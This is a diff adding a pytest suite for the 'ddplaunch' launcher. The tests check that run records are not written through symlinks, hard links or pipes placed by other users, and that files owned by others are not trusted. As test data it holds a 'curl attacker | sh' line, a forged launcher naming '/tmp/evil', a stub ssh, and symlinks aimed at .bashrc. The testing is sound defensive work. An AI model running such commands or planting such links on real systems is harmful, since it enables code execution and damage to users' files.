@@ -1,0 +1,342 @@
+"""Records are written through nobody else's folders and links, and nobody else's records are believed."""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import stat
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+import ddplaunch
+from ddplaunch.agent.guard.record_file import RecordFile
+from ddplaunch.agent.plugin.session import Session
+from ddplaunch.launch.settings import Settings
+from ddplaunch.records.json_files import read_object, replace_file
+from ddplaunch.records.outcome import RunOutcome, write_outcome
+from ddplaunch.records.own import own_files
+from ddplaunch.records.own.own_files import NotOursError, foreign, open_to_write
+from ddplaunch.records.own.run_lock import refuse_taken
+from ddplaunch.records.run_states import host_name
+from ddplaunch.values.finding import RefusedError
+from ddplaunch.watch.recording import metrics_file
+from tests.cli.cli_calls import Call, call, folder, spawn
+from tests.launch.sample_launch import launch
+from tests.records.fake_runs import outcome, record
+
+__all__ = ["call", "folder"]
+
+NOBODY = 65534
+MINE = "export PATH=$PATH:~/bin\n"
+
+
+def record_output(directory: Path) -> str | None:
+    file = RecordFile(f"{directory}/node-0/attempt-0/rank-0.out")
+    file.open()
+    file.write(b"curl attacker | sh\n")
+    file.close()
+    return file.problem
+
+
+def write_the_outcome(directory: Path) -> str | None:
+    return write_outcome(directory, RunOutcome("x", "h", 0, "succeeded", 0, 1.0, 2.0, None, None, (), (), ()))
+
+
+def make_attempt(directory: Path) -> str | None:
+    session = Session.__new__(Session)
+    session.settings, session.attempt = Settings(directory=str(directory)), 0
+    return None if session.directory() else "refused"
+
+
+def begin_metrics(directory: Path) -> str | None:
+    try:
+        with metrics_file(directory / "node-0"):
+            return None
+    except OSError as error:
+        return error.strerror
+
+
+def note(directory: Path) -> str | None:
+    try:
+        replace_file(directory / "node-0" / "processes.json", "{}")
+    except OSError as error:
+        return error.strerror
+    return None
+
+
+WRITERS: tuple[Callable[[Path], str | None], ...] = (
+    record_output,
+    write_the_outcome,
+    make_attempt,
+    begin_metrics,
+    note,
+)
+
+
+@pytest.mark.parametrize("write", WRITERS)
+@pytest.mark.parametrize("link", ["runs", "run", "node-0", "attempt-0"])
+def test_no_link_on_the_way_is_followed(tmp_path: Path, write: Callable[[Path], str | None], link: str) -> None:
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    directory = tmp_path / ".ddplaunch" / "runs" / "run"
+    places = {"runs": directory.parent, "run": directory, "node-0": directory / "node-0"}
+    place = places.get(link, directory / "node-0" / "attempt-0")
+    place.parent.mkdir(parents=True)
+    place.symlink_to(victim)
+    reached = write(directory)
+    assert list(victim.iterdir()) == []
+    assert (reached is not None) == (place in (directory.parent, directory) or _uses(write, place))
+
+
+def _uses(write: Callable[[Path], str | None], place: Path) -> bool:
+    """Whether what ``write`` writes is below ``place``, a folder of node 0."""
+    if place.name == "node-0":
+        return write is not write_the_outcome
+    return write in (record_output, make_attempt)
+
+
+@pytest.mark.parametrize("kind", ["link", "hard link", "pipe", "folder"])
+@pytest.mark.parametrize("write", [record_output, begin_metrics])
+def test_what_grows_is_a_plain_file(tmp_path: Path, kind: str, write: Callable[[Path], str | None]) -> None:
+    victim = tmp_path / ".bashrc"
+    victim.write_text(MINE)
+    directory = tmp_path / "runs" / "run"
+    name = "attempt-0/rank-0.out" if write is record_output else "metrics.jsonl"
+    path = directory / "node-0" / name
+    path.parent.mkdir(parents=True)
+    make: dict[str, Callable[[], object]] = {
+        "link": lambda: path.symlink_to(victim),
+        "hard link": lambda: path.hardlink_to(victim),
+        "pipe": lambda: os.mkfifo(path),
+        "folder": path.mkdir,
+    }
+    make[kind]()
+    assert write(directory) is not None
+    assert victim.read_text() == MINE
+
+
+def test_a_file_that_is_replaced_may_be_a_link_which_goes(tmp_path: Path) -> None:
+    victim = tmp_path / ".profile"
+    victim.write_text(MINE)
+    (tmp_path / "outcome.json").symlink_to(victim)
+    assert write_the_outcome(tmp_path) is None
+    assert victim.read_text() == MINE and not (tmp_path / "outcome.json").is_symlink()
+
+
+@pytest.mark.root
+@pytest.mark.parametrize("theirs", ["base", "runs", "run", "link"])
+def test_a_launch_into_somebody_elses_records_is_refused_with_the_way_out(
+    call: Call, folder: Path, theirs: str
+) -> None:
+    base = folder / ".ddplaunch"
+    if theirs == "link":
+        (folder / "elsewhere").mkdir()
+        base.symlink_to(folder / "elsewhere")
+        os.lchown(base, NOBODY, NOBODY)
+    else:
+        (base / "runs" / "mine").mkdir(parents=True)
+        os.chown({"base": base, "runs": base / "runs", "run": base / "runs" / "mine"}[theirs], NOBODY, NOBODY)
+    said = call("run", "1", "--device", "cpu", "--run-id", "mine", "--", "train.py")
+    assert said.status == 4
+    words = " ".join(said.err.split())
+    assert "error[record-not-yours]: .ddplaunch" in words and "nobody" in words
+    assert "fix: `--run-dir .ddplaunch-root`, or for every command `export DDPLAUNCH_DIR=.ddplaunch-root`" in words
+    assert list(folder.rglob("run.json")) == []
+
+
+def test_a_link_of_ones_own_to_a_large_disk_is_followed(tmp_path: Path) -> None:
+    disk = tmp_path / "disk"
+    disk.mkdir()
+    base = tmp_path / ".ddplaunch"
+    base.symlink_to(disk)
+    refuse_taken(base, launch(run_id="mine"))
+    assert isinstance(record(base, "mine"), Path)
+    assert stat.S_IMODE((disk / "runs" / "mine").stat().st_mode) == 0o700
+    assert record_output(base / "runs" / "mine") is None
+    assert (disk / "runs" / "mine" / "node-0" / "attempt-0" / "rank-0.out").exists()
+
+
+def test_records_of_an_older_version_become_private_when_they_are_used_again(tmp_path: Path) -> None:
+    directory = tmp_path / "runs" / "again"
+    directory.mkdir(parents=True)
+    directory.chmod(0o775)
+    record(tmp_path, "again")
+    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
+
+
+@pytest.mark.root
+def test_a_file_system_that_gives_all_files_to_one_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """NFS with root_squash, SMB, FUSE: what we make there is not ours by number, and is ours all the same."""
+    (tmp_path / "runs" / "x").mkdir(parents=True)
+    for path in (tmp_path, tmp_path / "runs", tmp_path / "runs" / "x"):
+        os.chown(path, NOBODY, NOBODY)
+    with pytest.raises(RefusedError):
+        refuse_taken(tmp_path, launch(run_id="x"))
+    assert foreign(tmp_path / "runs" / "x") == "belongs to nobody"
+    assert list((tmp_path / "runs" / "x").iterdir()) == []
+    own_files._renamed.clear()
+    monkeypatch.setattr(own_files, "_owner_here", lambda _: NOBODY)
+    refuse_taken(tmp_path, launch(run_id="x"))
+    assert foreign(tmp_path / "runs" / "x") is None
+    own_files._renamed.clear()
+
+
+@pytest.mark.slow
+def test_a_whole_record_is_for_its_owner_alone_whatever_the_umask(tmp_path: Path) -> None:
+    before = os.umask(0)
+    try:
+        (tmp_path / "fails.py").write_text("raise KeyError('bird')\n")
+        options = ("run", "2", "--device", "cpu", "--run-id", "x", "--record-metrics", "--relaunch", "1")
+        done = spawn([*options, "--", "fails.py"], tmp_path)
+    finally:
+        os.umask(before)
+    assert done.returncode == 1, done.stderr
+    modes = {
+        str(path.relative_to(tmp_path)): stat.S_IMODE(path.stat().st_mode)
+        for path in (tmp_path / ".ddplaunch").rglob("*")
+        if not path.is_symlink() and not path.name.endswith(".error.json")  # torch writes these, in our folder
+    }
+    assert {name.rpartition("/")[2] for name in modes} >= {"run.json", "outcome.json", "rank-0.err", "processes.json"}
+    wrong = {name: oct(mode) for name, mode in modes.items() if mode not in (0o600, 0o700)}
+    assert wrong == {}
+
+
+#: What may write without ``own_files``, because it is no record: files that a flag names, /proc, /dev.
+ELSEWHERE = {
+    "agent/comm_host.py",  # /dev/null
+    "agent/guard/guard.py",  # /proc/self/comm
+    "agent/plugin/trace.py",  # --trace FILE
+    "agent/rank_site/ddplaunch_marks.py",  # in the rank, which has no ddplaunch; the folder is ours
+    "agent/rank_site/ddplaunch_observer.py",  # as the one before
+    "agent/rank_site/ddplaunch_timeline.py",  # as the ones before
+    "agent/warm/template_process.py",  # /dev/null
+    "cli/commands/doctor.py",  # --report FILE
+    "cli/commands/top.py",  # --plot FILE
+    "cli/main.py",  # /dev/null
+    "hosts/remote.py",  # /dev/null
+    "records/gpu_lock.py",  # a folder of all users, with checks of its own
+    "records/own/own_files.py",
+    "records/user_key.py",  # the home directory, by O_EXCL and a link
+    "ui/terminal.py",  # /dev/null
+    "watch/recording.py",  # /proc/self/comm
+}
+MAKES = {"write_text", "write_bytes", "touch", "mkdir", "makedirs", "symlink_to", "symlink", "rmtree"}
+FLAGS = ("O_CREAT", "O_WRONLY", "O_RDWR")
+
+
+def writes(node: ast.AST) -> bool:
+    """Whether a call makes a file or folder, or opens one to write, by its path."""
+    if not isinstance(node, ast.Call):
+        return False
+    name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
+    if name in MAKES:
+        return isinstance(node.func, ast.Attribute) and not any(each.arg == "dir_fd" for each in node.keywords)
+    if name != "open":
+        return False
+    modes = [each.value for each in ast.walk(node) if isinstance(each, ast.Constant) and isinstance(each.value, str)]
+    opened = node.args[0] if node.args else None
+    by_descriptor = isinstance(opened, ast.Call) or (isinstance(opened, ast.Name) and opened.id == "descriptor")
+    return not by_descriptor and (
+        any(mode in ("w", "wb", "a", "ab", "x", "xb", "r+", "w+b", "r+b") for mode in modes)
+        or any(flag in ast.unparse(node) for flag in FLAGS)
+    )
+
+
+def test_nothing_else_writes_by_path() -> None:
+    root = Path(ddplaunch.__file__).parent
+    found = {
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if "examples" not in path.parts and any(map(writes, ast.walk(ast.parse(path.read_text(encoding="utf-8")))))
+    }
+    assert found == ELSEWHERE
+
+
+# Readers
+
+
+@pytest.fixture
+def theirs(folder: Path) -> Path:
+    """Return a complete record of another user's, with a launcher that names a program of theirs."""
+    directory = record(folder / ".ddplaunch", "theirs", begun_s=time.time() - 60)
+    attempt = directory / "node-0" / "attempt-0"
+    attempt.mkdir(parents=True)
+    (attempt / "rank-0.out").write_text("words of theirs\n")
+    (attempt / "rank-0.err").write_text("Traceback (most recent call last):\nKeyError: 'forged'\n")
+    (directory / "node-0" / "metrics.jsonl").write_text('{"schema": 1}\n')
+    launcher = {
+        "schema": 1, "run_id": "theirs", "host": host_name(), "boot_id": "x",
+        "launcher": {"pid": 1, "start_time": 1}, "nodes": [{"node": 0, "host": "localhost", "python": "/tmp/evil"}],
+    }  # fmt: skip
+    (directory / "launcher.json").write_text(json.dumps(launcher))
+    for path in (*directory.rglob("*"), directory):
+        os.chown(path, NOBODY, NOBODY)
+    return directory
+
+
+def ssh_that_tells(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Put an ssh first on PATH that leaves a file when it is called, and return that file."""
+    programs, called = folder / "bin", folder / "ssh-was-called"
+    programs.mkdir()
+    (programs / "ssh").write_text(f'#!/bin/sh\necho "$@" >> {called}\nexit 255\n')
+    (programs / "ssh").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
+    return called
+
+
+COMMANDS = (("stop",), ("explain",), ("logs",), ("stacks",), ("top", "--replay"), ("top", "--plot", "x.svg"))
+
+
+@pytest.mark.root
+@pytest.mark.parametrize("named", ["theirs", ".ddplaunch/runs/theirs"])
+@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
+def test_no_command_acts_on_a_record_of_others(
+    call: Call, folder: Path, theirs: Path, words: tuple[str, ...], named: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    called = ssh_that_tells(folder, monkeypatch)
+    said = call(words[0], named, *words[1:])
+    assert said.status == 2, said
+    assert "error[record-not-yours]" in said.err and "belongs to nobody" in " ".join(said.err.split())
+    assert "forged" not in said.out and "words of theirs" not in said.out and not called.exists()
+    os.chown(theirs / "launcher.json", 0, 0)
+    os.chown(theirs, 0, 0)
+    if words == ("stop",):  # the same record, of one's own: the test sees what it looks for
+        call("stop", "theirs")
+        assert "/tmp/evil" in called.read_text()
+
+
+@pytest.mark.root
+def test_records_of_others_are_not_listed(call: Call, folder: Path, theirs: Path) -> None:
+    outcome(record(folder / ".ddplaunch", "mine"))
+    for words in (("ps", "--all"), ("ps", "--json"), ("explain",), ("logs",)):
+        said = call(*words)
+        assert "theirs" not in said.out, words
+
+
+@pytest.mark.root
+@pytest.mark.parametrize("name", ["run.json", "outcome.json", "launcher.json", "node-0/processes.json"])
+def test_a_file_that_somebody_else_put_into_a_record_is_not_believed(tmp_path: Path, name: str) -> None:
+    path = record(tmp_path, "mine") / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_text('{"schema": 1}')
+    assert read_object(path) == {"schema": 1}
+    os.chown(path, NOBODY, NOBODY)
+    with pytest.raises(NotOursError, match="belongs to nobody"):
+        read_object(path)
+    path.rename(tmp_path / "elsewhere")
+    path.symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(NotOursError, match="no plain file"):
+        read_object(path)
+
+
+def test_a_descriptor_stays_closed_when_it_is_refused(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "pipe")
+    before = len(list(Path("/proc/self/fd").iterdir()))
+    for _ in range(3):
+        with pytest.raises(NotOursError):
+            open_to_write(tmp_path / "pipe", os.O_WRONLY)
+    assert len(list(Path("/proc/self/fd").iterdir())) == before
